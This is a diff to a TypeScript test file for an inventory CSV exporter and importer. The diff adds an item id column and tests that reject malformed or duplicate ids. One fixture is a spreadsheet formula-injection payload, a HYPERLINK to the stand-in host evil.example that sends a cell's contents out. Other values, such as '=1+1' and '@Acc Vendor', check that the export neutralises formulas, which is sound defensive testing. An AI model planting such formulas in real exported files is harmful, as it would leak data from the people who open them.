@@ -9,8 +9,8 @@ const none = undeclaredStatements();
 const water: Statements = { declarations: { ...none.declarations, sulphites: "free", milk: "free" }, animal: "no", meatOrFish: "no" };
 const flour: Statements = { declarations: { ...none.declarations, gluten: "contains", nuts: "may-contain" }, animal: "no", meatOrFish: "undeclared" };
 const items = [
-  { name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water, version: 3 },
-  { name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour, version: 1 },
+  { id: "5d0c1f7e-6a35-4a43-9f3a-2f1f4a0c9b11", name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water, version: 3 },
+  { id: "seed-un", name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour, version: 1 },
 ];
 /** The columns an import gives for what the export wrote: all 18. */
 const allOf = (statements: Statements) => statementColumns(statements);
@@ -19,10 +19,10 @@ describe("the inventory CSV", () => {
   it("exports a header row, UTF-8 with a byte-order mark, unit keys, prices with a decimal point", () => {
     const csv = inventoryToCsv(items);
     expect(csv.startsWith("\uFEFFname,unit,price,vendor,category,allergen_gluten,allergen_crustaceans,")).toBe(true);
-    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish,version\r\n");
+    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish,version,id\r\n");
     expect(csv).toContain('"Şişe su, 0,5 l",bottle,12.50,"Doğuş ""Toptan""",beverage,undeclared,');
     expect(csv).toContain('Un,kg,45.00,Metro,food,contains,undeclared,');
-    expect(csv).toContain(",undeclared,no,undeclared,1\r\n");
+    expect(csv).toContain(",undeclared,no,undeclared,1,seed-un\r\n");
   });
 
   it("reads back exactly what it wrote", () => {
@@ -30,8 +30,8 @@ describe("the inventory CSV", () => {
     expect(parsed).toEqual({
       ok: true,
       rows: [
-        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2, exportedVersion: 3 },
-        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3, exportedVersion: 1 },
+        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2, exportedVersion: 3, exportedId: items[0]!.id },
+        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3, exportedVersion: 1, exportedId: "seed-un" },
       ],
     });
   });
@@ -67,6 +67,21 @@ describe("the inventory CSV", () => {
         errors: [{ line: 2, messages: ['inventory.csvVersionInvalid|{"column":"version"}'] }],
       });
     }
+  });
+
+  it("reads the id each row's item was exported with, none for a row without one; names one the site never wrote, and the same id twice", () => {
+    const parsed = parseInventoryCsv("name,unit,price,vendor,category,version,id\nUn,kg,12,Metro,food,7,seed-un\nTuz,kg,8,Metro,food,,\n", "en");
+    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.exportedId])).toEqual([["Un", "seed-un"], ["Tuz", undefined]]);
+    for (const id of ["un tuz", "=1+1", "x".repeat(101), "Un;Metro"]) {
+      expect(parseInventoryCsv(`name,unit,price,vendor,category,id\nUn,kg,12,Metro,food,"${id}"\n`, "en")).toEqual({
+        ok: false,
+        errors: [{ line: 2, messages: ['inventory.csvIdInvalid|{"column":"id"}'] }],
+      });
+    }
+    expect(parseInventoryCsv("name,unit,price,vendor,category,id\nUn,kg,12,Metro,food,seed-un\nUn kepeği,kg,9,Metro,food,seed-un\n", "en")).toEqual({
+      ok: false,
+      errors: [{ line: 3, messages: ['inventory.csvDuplicateId|{"line":2,"column":"id"}'] }],
+    });
   });
 
   it("reads the columns' names in Turkish", () => {
@@ -173,7 +188,7 @@ describe("the inventory CSV", () => {
   });
 
   describe("opened in a spreadsheet program", () => {
-    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none, version: 1 };
+    const formula = { id: "formula", name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none, version: 1 };
     /** The cells of a CSV text as a spreadsheet program reads them. */
     const cells = (csv: string) => (parse(csv.slice(1)) as string[][]).slice(1);
 
@@ -184,7 +199,7 @@ describe("the inventory CSV", () => {
     });
 
     it("reads back the very text that was exported, apostrophes of its own included", () => {
-      const names = [formula, { ...formula, name: "'=1+1", vendor: "'Kara' Ltd" }, { ...formula, name: "-Soğan", vendor: "''+Metro" }, { ...formula, name: "+90 Çay", vendor: "O'Neil" }];
+      const names = [formula, { ...formula, id: "kara", name: "'=1+1", vendor: "'Kara' Ltd" }, { ...formula, id: "-sogan", name: "-Soğan", vendor: "''+Metro" }, { ...formula, id: "cay", name: "+90 Çay", vendor: "O'Neil" }];
       const parsed = parseInventoryCsv(inventoryToCsv(names), "tr");
       expect(parsed.ok && parsed.rows.map((row) => [row.name, row.vendor])).toEqual(names.map((item) => [item.name, item.vendor]));
       expect(cells(inventoryToCsv(names)).map((row) => [row[0], row[3]])).toEqual([
@@ -210,8 +225,9 @@ describe("the inventory CSV", () => {
         category: fc.constantFrom(...INVENTORY_CATEGORIES),
         statements: fc.constantFrom(none, water, flour),
         version: fc.integer({ min: 1, max: 999_999_999 }),
+        id: fc.oneof(fc.uuid(), fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/)),
       });
-      const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` });
+      const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` }).filter((rows) => new Set(rows.map((row) => row.id)).size === rows.length);
       fc.assert(
         fc.property(items, (rows) => {
           const csv = inventoryToCsv(rows);
@@ -220,7 +236,7 @@ describe("the inventory CSV", () => {
           if (!parsed.ok) return;
           expect(parsed.rows.map(({ name, vendor }) => ({ name, vendor }))).toEqual(rows.map(({ name, vendor }) => ({ name, vendor })));
           expect(
-            inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>), version: row.exportedVersion ?? 0 }))),
+            inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>), version: row.exportedVersion ?? 0, id: row.exportedId ?? "" }))),
           ).toBe(csv);
           for (const row of cells(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
         }),
